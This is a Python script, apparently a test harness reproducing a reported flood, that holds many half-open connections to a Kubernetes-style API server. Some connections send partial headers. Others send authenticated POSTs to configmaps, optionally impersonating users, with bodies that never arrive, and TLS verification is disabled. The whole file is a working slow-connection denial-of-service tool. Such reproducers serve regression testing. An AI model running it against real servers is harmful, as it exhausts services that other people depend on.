"""Holds COUNT half-open connections to HOST:PORT, as the flood of issue 43 did: TLS
handshake done (verifying nothing: an anonymous attacker), half a request header sent,
nothing more. With a fifth argument TOKEN, each sends whole headers of a POST as that
bearer token and a body that never comes: work in flight. FLOOD_NAMESPACE names the
namespace posted to (default), FLOOD_IMPERSONATE a comma-separated list of users the
connections impersonate in turn. Prints "ready N" once N are open, then holds them until
stdin closes."""
import os
import resource
import socket
import ssl
import sys

host, port, count, use_tls = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4] == "tls"
token = sys.argv[5] if len(sys.argv) > 5 else None
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 256)), hard))
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
namespace = os.environ.get("FLOOD_NAMESPACE", "default").encode()
impersonate = [u.encode() for u in os.environ.get("FLOOD_IMPERSONATE", "").split(",") if u]
held = []
for i in range(count):
    try:
        raw = socket.create_connection((host, port), timeout=10)
        conn = context.wrap_socket(raw, server_hostname=host) if use_tls else raw
        if token:
            as_user = b"impersonate-user: " + impersonate[i % len(impersonate)] + b"\r\n" if impersonate else b""
            conn.sendall(
                b"POST /api/v1/namespaces/" + namespace + b"/configmaps HTTP/1.1\r\nhost: x\r\n"
                + b"authorization: Bearer " + token.encode() + b"\r\n" + as_user
                + b"content-type: application/json\r\ncontent-length: 100\r\n\r\n{")
        else:
            conn.sendall(b"GET /api/v1/namespaces HTTP/1.1\r\nhost: x\r\nx-half: ")
        held.append(conn)
    except OSError:
        pass
print(f"ready {len(held)}", flush=True)
sys.stdin.read()
